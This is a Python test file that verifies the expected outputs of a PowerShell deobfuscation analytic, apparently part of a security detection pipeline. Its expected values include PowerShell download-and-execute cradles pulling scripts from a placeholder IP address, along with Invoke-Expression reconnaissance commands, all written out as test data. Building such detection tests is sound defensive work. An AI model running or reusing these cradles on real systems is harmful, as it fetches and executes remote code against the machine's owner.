"""Checks the golden outputs of the powershell-deobfuscate cases against values worked out by
hand (run inside the image from the analytic's folder: python3 tests/check_expected.py)."""
import json
import os

import pyarrow.parquet as pq

HERE = os.path.dirname(os.path.abspath(__file__))


def rows(case, part):
    return pq.read_table(os.path.join(HERE, case, part, "0.parquet.gz")).to_pylist()


def case(name):
    inp, out = rows(name, "input"), rows(name, "expected/output")
    assert len(inp) == len(out), name
    for a, b in zip(inp, out):
        assert all(b[k] == v for k, v in a.items()), name
    return [(r["x_psd_deobfuscated"], None if r["x_psd_techniques"] is None
             else json.loads(r["x_psd_techniques"])) for r in out]


got = case("obfuscated-commands")
assert got == [
    ("powershell.exe -NoP -NonI -W Hidden -Command IEX (New-Object Net.WebClient)"
     ".DownloadString('http://203.0.113.7/a.ps1')", ["encoded_command"]),
    ("powershell -c \"IEX ((New-Object Net.WebClient).('DownloadString')"
     "('http://203.0.113.7/b.ps1'))\"", ["concatenation", "backtick"]),
    ("powershell -c & 'IEX' 'Write-Host pwned'", ["char_codes", "concatenation"]),
    ("pwsh -c 'Invoke-Expression' 'whoami /all'", ["format_string"]),
    ("powershell -Command $s='iex';& $s 'calc'", ["encoded_command", "char_codes"]),
    ("powershell -c 'Start-Process notepad'", ["base64_string"]),
    ("cmd.exe /c dir C:\\Users", []),
    (None, None),
], got

procs = case("kestrel-procs")
inp = rows("kestrel-procs", "input")
assert len(procs) == 60
for (text, tech), r in zip(procs, inp):       # no PowerShell there: lines unchanged
    if r["command_line"] is None:
        assert (text, tech) == (None, None)
    else:
        assert (text, tech) == (r["command_line"], [])
assert sum(1 for t, _ in procs if t is None) == 34   # rows 9-21, 37-40, 42-45, 47-59

assert case("missing-command-line") == [(None, None), (None, None)]
print("powershell-deobfuscate goldens: all values as expected")
